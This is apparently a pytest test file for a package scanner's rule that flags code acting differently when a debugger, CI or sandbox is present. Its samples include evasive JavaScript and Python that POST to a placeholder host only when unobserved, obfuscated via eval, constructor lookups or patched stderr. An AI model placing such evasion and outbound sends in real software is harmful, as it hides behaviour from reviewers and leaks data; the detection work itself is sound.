"""Looks for a debugger or a sandbox on which only hangs what is printed, and those on which more does."""

import pytest

from tests.checks.conftest import fresh, lines, npm, scanned, wheel
from tests.factories import subject
from vetting.checks import Context
from vetting.checks.static_rules import StaticRules
from vetting.model.subject import Subject

HEAD = "import inspector from 'node:inspector';\nimport os from 'node:os';\n"
ASKS = "const asked = () => inspector.url() === undefined && !process.env.CI;\n"
SAYS = "function says() {\n  if (!asked()) return;\n  console.error(`up for ${process.uptime()}`);\n}\n"
STARTS = "setTimeout(says, 3600).unref();\n"
TABLE = (
    "const loud = () => { console.error('x'); return { page: 50 }; };\n"
    "const steps = { quiet: () => ({ page: 10 }), loud };\n"
)
TUNE = "export const tune = () => steps[asked() ? 'loud' : 'quiet']();\n"
USES = "const { page } = tune();\nexport const list = (q) => fetch(`${BASE}/list?limit=${page}&q=${q}`);\n"
SERVER = "import { tune } from './look.js';\nconst BASE = 'https://a.example';\n" + USES
SEND = "fetch('https://a.example', { method: 'POST' })"


def javascript(source: str, **others: str) -> Subject:
    files = {"package.json": '{"name": "server"}', "look.js": source}
    files |= {name.replace("_", "."): text for name, text in others.items()}
    return npm(files)


def severity(context: Context, server: Subject) -> list[str]:
    found = lines(StaticRules().run(server, fresh(context)))
    return [line.split()[0] for line in found if "text/sandbox-probe look." in line]


PRINTS = [
    HEAD + ASKS + SAYS + STARTS,
    HEAD + ASKS + "if (asked()) console.warn('somebody looks');\n",
    HEAD
    + ASKS
    + "function main(port) {\n  serve(port);\n  if (asked()) { console.warn('x'); }\n}\nmain(1);\n",
    HEAD + "const traits = { a: () => inspector.url() === undefined };\n"
    "const all = () => Object.values(traits).filter((test) => test()).length;\nconsole.error(all());\n",
    "const inspector = require('node:inspector');\n" + ASKS + SAYS + STARTS,
    HEAD + ASKS + TABLE + TUNE + "const BASE = process.env.BASE;\n" + USES,
]


@pytest.mark.parametrize(
    "source",
    PRINTS,
)
def test_only_more_is_printed(context: Context, source: str) -> None:
    assert severity(context, javascript(source)) == ["low"]


HANGS = [
    HEAD + ASKS + f"if (asked()) {SEND};\n",
    HEAD + ASKS + f"function says() {{\n  if (!asked()) return;\n  {SEND};\n}}\n" + STARTS,
    HEAD + ASKS + SAYS + STARTS + f"asked() && {SEND};\n",
    HEAD + ASKS + f"const at = [() => {SEND}];\nat.filter(asked).map((one) => one());\n",
    HEAD + ASKS + "if (!asked()) process.exit(0);\n",
    HEAD + ASKS + "while (!asked()) { }\n",
    HEAD + ASKS + "if (!asked()) throw new Error('no');\n",
    HEAD + ASKS + f"const kept = [];\nkept.push(asked());\nif (kept[0]) {SEND};\n",
    HEAD + ASKS + f"let on = false;\nif (asked()) on = true;\nif (on) {SEND};\n",
    HEAD + ASKS + f"process.env.ON = asked();\nif (process.env.ON) {SEND};\n",
    HEAD + ASKS + f"process.argv.push(asked());\nif (process.argv.at(-1)) {SEND};\n",
    HEAD + ASKS + f"process.argv.map((a, i, all) => all.push(asked()));\nif (x) {SEND};\n",
    HEAD + ASKS + f"const act = () => {{ if (asked()) {SEND}; [].map((fetch) => 0); }};\nact();\n",
    HEAD + ASKS + "const a = asked['constr' + 'uctor'];\nif (asked()) a('x')();\n",
    HEAD
    + ASKS
    + "const a = {}; const f = (k) => a[k][k]('x');\nf(asked() ? 'constructor' : 'x');\n",
    HEAD
    + ASKS
    + f"const x = {{ toString() {{ {SEND}; }} }};\nif (asked()) console.log(`${{x}}`);\n",
    HEAD + ASKS + f"function main() {{\n  if (asked()) return;\n  {SEND};\n}}\nmain();\n",
    HEAD + ASKS + f"const run = asked() ? () => {SEND} : () => 0;\nrun();\n",
    HEAD + ASKS + "eval('if (asked()) x()');\n",
    HEAD + ASKS + "export default asked;\n",
    HEAD + "export default () => inspector.url() === undefined;\n",
    HEAD + "export class A { on() { return inspector.url() === undefined; } }\n",
    HEAD.replace("node:inspector", "./inspector.js") + ASKS + SAYS + STARTS,
]


@pytest.mark.parametrize(
    "source",
    HANGS,
)
def test_more_hangs_on_it(context: Context, source: str) -> None:
    assert severity(context, javascript(source)) == ["medium"]


BANNER = (
    HEAD
    + "const marks = () => [process.env.CI, inspector.url() !== undefined, !process.stderr.isTTY];\n"
    "const quiet = () => marks().some(Boolean);\n"
    "function banner() {\n  if (quiet()) {\n    console.error('x');\n    return;\n  }\n"
    "  console.error('\\x1b[36mx');\n}\n"
)
MAIN = "async function main() {\n  %s\n  await serve(1);\n}\nmain();\n"


CALLERS = [
    ("banner();", "low"),
    ("if (banner()) return;", "medium"),
    ("if (quiet()) return;", "medium"),
    (f"quiet() || {SEND};", "medium"),
    (f"banner({SEND});", "medium"),
]


@pytest.mark.parametrize(
    ("asks", "expected"),
    CALLERS,
)
def test_one_caller_only_prints(context: Context, asks: str, expected: str) -> None:
    assert severity(context, javascript(BANNER + MAIN % asks)) == [expected]


PYTHON = """import os
import sys
from pathlib import Path
import requests
MARKS = ("CI", "GITHUB_ACTIONS")
def quiet():
    marks = (
        sys.gettrace() is not None,
        any(k in os.environ for k in MARKS),
        Path("/.dockerenv").exists(),
        not sys.stderr.isatty(),
    )
    return any(marks)
def banner():
    if quiet():
        print("x", file=sys.stderr)
        return
    print("\\033[36mx", file=sys.stderr)
%s
def main():
    %s
    serve()
"""
AWAY = "requests.post('https://a.example', data='x')"


def python(source: str, **others: str) -> Subject:
    files = {"look.py": source, **{f"{name}.py": text for name, text in others.items()}}
    return subject(wheel(files))


PYTHON_PRINTS = [
    ("", "banner()"),
    ("", "if quiet(): print('x')"),
    ("", "print('x' if quiet() else 'y')"),
    ("def width():\n    return 80 if quiet() else 120\n", "print('-' * width())"),
    ("def colours():\n    return not quiet()\n", "if not colours():\n        print('plain')"),
]


@pytest.mark.parametrize(
    ("above", "asks"),
    PYTHON_PRINTS,
)
def test_only_more_is_printed_in_python(context: Context, above: str, asks: str) -> None:
    assert severity(context, python(PYTHON % (above, asks))) == ["low"]


PYTHON_HANGS = [
    ("", f"if not quiet(): {AWAY}"),
    ("", "if quiet(): return"),
    ("", "if quiet(): sys.exit(0)"),
    ("", f"still = quiet()\n    if not still: {AWAY}"),
    ("", f"quiet() or {AWAY}"),
    ("", f"[quiet] and {AWAY}"),
    ("", f"banner() or {AWAY}"),
    ("", "threading.Timer(quiet(), act)"),
    ("def asks():\n    return quiet()\n", f"if not asks(): {AWAY}"),
    (f"def asks():\n    if not quiet(): {AWAY}\n", "asks()"),
    ("STILL = quiet()\n", f"if not STILL: {AWAY}"),
    ("def print(text, **more): act(text)\n", "banner()"),
    ("class Any:\n    quiet = staticmethod(quiet)\n", f"Any.quiet() or {AWAY}"),
    ("", f"globals()['qui' + 'et']() or {AWAY}"),
    ("", f"sys.modules[__name__].quiet() or {AWAY}"),
    ("sys.stderr = Sender()\n", "banner()"),
    ("sys.stderr.write = send\n", "banner()"),
    ("def asks(out=sys.stderr):\n    out.write(str(quiet()))\n", "asks(Sender())"),
    ("def asks():\n    if not quiet(): raise OSError\n", "asks()"),
    ("def asks():\n    while not quiet(): pass\n", "asks()"),
    ("def asks():\n    MARKS[0] = quiet()\n", "asks()"),
    ("def asks():\n    global MARKS\n    MARKS = quiet()\n", "asks()"),
]


@pytest.mark.parametrize(
    ("above", "asks"),
    PYTHON_HANGS,
)
def test_more_hangs_on_it_in_python(context: Context, above: str, asks: str) -> None:
    assert severity(context, python(PYTHON % (above, asks))) == ["medium"]


MODULES = [
    ("from look import main\nmain()\n", "low"),
    (f"from look import quiet\nquiet() or {AWAY}\n", "medium"),
    (f"import look\nlook.quiet() or {AWAY}\n", "medium"),
    (f"import look\ngetattr(look, 'qui' + 'et')() or {AWAY}\n", "medium"),
    ("import builtins\nbuiltins.print = send\n", "medium"),
    ("import sys\nsys.stderr = Sender()\n", "medium"),
]


@pytest.mark.parametrize(
    ("other", "expected"),
    MODULES,
)
def test_what_another_module_does_with_an_answer(
    context: Context, other: str, expected: str
) -> None:
    assert severity(context, python(PYTHON % ("", "banner()"), other=other)) == [expected]


FILES = [
    (SERVER, "low"),
    ("import { list } from './list.js';\nlist();\n", "low"),
    (SERVER + f"if (page > 20) {SEND};\n", "medium"),
    (SERVER + f"const run = {{ 50: () => {SEND} }};\nrun[page]();\n", "medium"),
    (SERVER.replace("?limit=", "/"), "medium"),
    (SERVER.replace("{ tune }", "* as look").replace("tune()", "look.tune()"), "medium"),
    (SERVER.replace("tune()", f"tune(() => {SEND})"), "medium"),
    (SERVER.replace("'./look.js'", "'server/look.js'"), "medium"),
    (SERVER.replace("'./look.js'", "'#look'"), "medium"),
    (SERVER + f"import('./look.js').then((m) => m.tune().page > 20 && {SEND});\n", "medium"),
    (SERVER + "import('./lo' + 'ok.js').then(run);\n", "medium"),
    (SERVER + "export { tune } from './look.js';\n", "medium"),
    (SERVER + "export { page };\n", "medium"),
    (SERVER + "import './more.txt';\n", "medium"),
]


COLOURS = """def settle():
    names = set()
    for entry in Path("/usr/share/terminfo").glob("?/*"):
        names.add(entry.name)
    if quiet() or os.environ.get("TERM") not in names:
        os.environ.setdefault("NO_COLOR", "1")
        return
    print("ready", file=sys.stderr)
"""


SETTLED = [
    ("import look\nlook.settle()\n", "low"),
    ("from look import settle\ndef main():\n    settle()\n    serve()\n", "low"),
    ("import look as l\nif l.quiet():\n    print('x')\n", "low"),
    ("import look\ndef says():\n    return look.quiet()\nif says():\n    print('x')\n", "low"),
    (f"import look\ndef says():\n    return look.quiet()\nsays() or {AWAY}\n", "medium"),
    (f"import look\nl = look\nl.quiet() or {AWAY}\n", "medium"),
    (f"from look import quiet as q\nq() or {AWAY}\n", "medium"),
    (f"import look\nlook.settle()\nos.environ.get('NO_COLOR') or {AWAY}\n", "medium"),
    (f"import look\nlook.settle()\nConsole().no_color or {AWAY}\n", "medium"),
    (f"import look\nlook.settle()\nlen(os.environ) > 9 or {AWAY}\n", "medium"),
    ("import look\nlook.settle()\nsubprocess.run(['./x'])\n", "medium"),
    (f"import look\nif look.quiet():\n    look.settle({AWAY})\n", "medium"),
    (f"import look\nif look.quiet():\n    look.main() or {AWAY}\n", "medium"),
]


def settled(other: str) -> Subject:
    source = PYTHON.replace("def main():\n    %s\n    serve()\n", "") % COLOURS
    source = source.replace("any(k in os.environ for k in MARKS)", 'bool(os.environ.get("CI"))')
    return python(source.replace("import requests\n", ""), other=other)


@pytest.mark.parametrize(("other", "expected"), SETTLED)
def test_an_answer_that_another_module_asks_for(
    context: Context, other: str, expected: str
) -> None:
    assert severity(context, settled(other)) == [expected]


KEPT = ["KEPT", "MARKS or []", "given"]


def filled(kept: str) -> Subject:
    above = f"def asks(given=()):\n    kept = {kept}\n    kept.append(quiet())\n    return kept\n"
    return python(PYTHON % (above, "asks()"))


@pytest.mark.parametrize("kept", KEPT)
def test_a_list_that_others_have_is_not_filled(context: Context, kept: str) -> None:
    assert severity(context, filled(kept)) == ["medium"]


@pytest.mark.parametrize(
    ("other", "expected"),
    FILES,
)
def test_what_another_file_does_with_an_answer(context: Context, other: str, expected: str) -> None:
    server = javascript(HEAD + ASKS + TABLE + TUNE, server_js=other)
    assert severity(context, server) == [expected]


@pytest.fixture(scope="module", autouse=True)
def _scanned(context: Context) -> None:
    scanned(
        context,
        *(javascript(source) for source in (*PRINTS, *HANGS)),
        *(settled(other) for other, _ in SETTLED),
        *map(filled, KEPT),
        *(javascript(BANNER + MAIN % asks) for asks, _ in CALLERS),
        *(python(PYTHON % both) for both in (*PYTHON_PRINTS, *PYTHON_HANGS)),
        *(python(PYTHON % ("", "banner()"), other=other) for other, _ in MODULES),
        *(javascript(HEAD + ASKS + TABLE + TUNE, server_js=other) for other, _ in FILES),
    )
